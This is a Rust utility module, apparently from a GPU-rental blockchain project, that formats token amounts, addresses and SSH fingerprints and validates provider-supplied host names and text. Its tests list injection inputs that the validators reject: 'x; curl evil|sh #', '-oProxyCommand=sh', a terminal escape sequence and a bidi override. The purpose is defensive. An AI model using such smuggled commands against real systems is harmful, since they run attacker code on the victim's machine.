//! Amounts, addresses and host keys as people read them.

use gpux_primitives::{
	currency::{TOKEN_DECIMALS, TOKEN_SYMBOL},
	AccountId, Balance,
};
use sp_core::crypto::Ss58Codec;

/// An amount in tokens, to three decimals (rounded down): `1.500 GPUX`.
pub fn tokens(amount: Balance) -> String {
	let unit = 10u128.pow(u32::from(TOKEN_DECIMALS));
	let milli = amount % unit / (unit / 1_000);
	format!("{}.{milli:03} {TOKEN_SYMBOL}", amount / unit)
}

/// An amount of tokens written as a decimal (`0.5`, `12`), in the smallest unit; `None` when it
/// is not a non-negative amount with at most the token's decimals.
pub fn parse_tokens(text: &str) -> Option<Balance> {
	let decimals = usize::from(TOKEN_DECIMALS);
	let (whole, frac) = text.trim().split_once('.').unwrap_or((text.trim(), ""));
	let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
	if !digits(whole) || (!frac.is_empty() && !digits(frac)) || frac.len() > decimals {
		return None;
	}
	let unit = 10u128.pow(u32::from(TOKEN_DECIMALS));
	let frac = format!("{frac:0<decimals$}").parse::<u128>().ok()?;
	whole.parse::<u128>().ok()?.checked_mul(unit)?.checked_add(frac)
}

/// An account from an SS58 address (any prefix) or `0x` and 64 hex digits; the error says which
/// form `text` fails.
pub fn parse_account(text: &str) -> Result<AccountId, String> {
	if let Some(hex) = text.strip_prefix("0x") {
		let bytes: [u8; 32] = hex::decode(hex)
			.ok()
			.and_then(|b| b.try_into().ok())
			.ok_or_else(|| format!("`{text}` is not an account: expected 64 hex digits"))?;
		return Ok(AccountId::from(bytes));
	}
	AccountId::from_ss58check_with_version(text)
		.map(|(account, _)| account)
		.map_err(|e| format!("`{text}` is not an account address: {e:?}"))
}

/// An account as a GPUX address.
pub fn address(account: &AccountId) -> String {
	account.to_ss58check_with_version(gpux_primitives::SS58_PREFIX.into())
}

/// The OpenSSH form of a host key fingerprint: `SHA256:` and unpadded base64.
pub fn fingerprint(hash: &[u8; 32]) -> String {
	const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	let mut out = String::from("SHA256:");
	for chunk in hash.chunks(3) {
		let n = chunk.iter().fold(0u32, |n, b| (n << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
		for i in 0..=chunk.len() {
			out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
		}
	}
	out
}

/// The SHA-256 of an OpenSSH key line's key blob (`ssh-ed25519 AAAA… [comment]`): what a host key
/// fingerprint hashes and what the worker attests. `None` unless the line is a key sshd accepts.
pub fn key_line_hash(line: &str) -> Option<[u8; 32]> {
	gpux_primitives::access::ssh_key_blob(line.trim().as_bytes())
		.map(|blob| sp_crypto_hashing::sha2_256(&blob))
}

/// `text` (something a provider wrote: a location, a model name) with control characters
/// replaced, so that printing it cannot drive the terminal (escape sequences).
pub fn printable(text: &[u8]) -> String {
	String::from_utf8_lossy(text)
		.chars()
		.map(|c| if c.is_control() || is_bidi_control(c) { '?' } else { c })
		.collect()
}

fn is_bidi_control(c: char) -> bool {
	matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

/// Whether `host` (what a provider's worker attested) is a plain DNS name or IP address, safe to
/// hand to ssh or print in a command: the chain does not check it, and a host such as
/// `-oProxyCommand=…` would be read as an option.
pub fn is_plain_host(host: &str) -> bool {
	if host.contains(':') {
		return host.len() <= 45 && host.parse::<std::net::Ipv6Addr>().is_ok();
	}
	let label = |l: &str| {
		(1..=63).contains(&l.len())
			&& l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
			&& !l.starts_with('-')
			&& !l.ends_with('-')
	};
	// A numeric last label is an IPv4 address, and only in its dotted-quad form: resolvers read
	// `0`, `2130706433` or `0x7f.1` as addresses too.
	let last = host.rsplit('.').next().unwrap_or_default();
	let numeric = last.bytes().all(|b| b.is_ascii_digit())
		|| last.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"));
	if numeric {
		return host.parse::<std::net::Ipv4Addr>().is_ok();
	}
	host.len() <= 253 && host.split('.').all(label)
}

/// `host` as a URL's host: an IPv6 address in brackets.
pub fn url_host(host: &str) -> String {
	if host.contains(':') {
		format!("[{host}]")
	} else {
		host.to_string()
	}
}

#[cfg(test)]
mod tests {
	use super::*;

	#[test]
	fn amounts_read_and_write_in_tokens() {
		assert_eq!(tokens(1_500_000_000_000), "1.500 GPUX");
		assert_eq!(parse_tokens("0.5"), Some(500_000_000_000));
		assert_eq!(parse_tokens("12"), Some(12_000_000_000_000));
		assert_eq!(parse_tokens("1.0000000000001"), None, "more decimals than the token has");
		assert_eq!(parse_tokens("-1"), None);
		assert_eq!(parse_tokens("1e3"), None);
		assert_eq!(parse_tokens(""), None);
		assert_eq!(parse_tokens("."), None);
	}

	#[test]
	fn only_plain_hosts_reach_ssh() {
		for ok in ["127.0.0.1", "gpu-1.example.net", "localhost", "::1", "2001:db8::7"] {
			assert!(is_plain_host(ok), "{ok}");
		}
		for bad in [
			"x; curl evil|sh #",
			"-oProxyCommand=sh",
			"a b",
			"",
			"a..b",
			"-host",
			"host\u{202e}",
			"0",
			"2130706433",
			"0x7f.1",
			"127.1",
			"1.2.3.4.5",
			"256.1.1.1",
		] {
			assert!(!is_plain_host(bad), "{bad}");
		}
	}

	#[test]
	fn provider_text_cannot_drive_the_terminal() {
		assert_eq!(printable(b"Frankfurt \x1b]52;c;bad\x07"), "Frankfurt ?]52;c;bad?");
		assert_eq!(printable("a\u{202e}b".as_bytes()), "a?b");
		assert_eq!(url_host("::1"), "[::1]");
		assert_eq!(url_host("gpu.example"), "gpu.example");
	}

	#[test]
	fn fingerprints_read_as_openssh_prints_them() {
		assert_eq!(fingerprint(&[0; 32]), format!("SHA256:{}", "A".repeat(43)));
	}
}
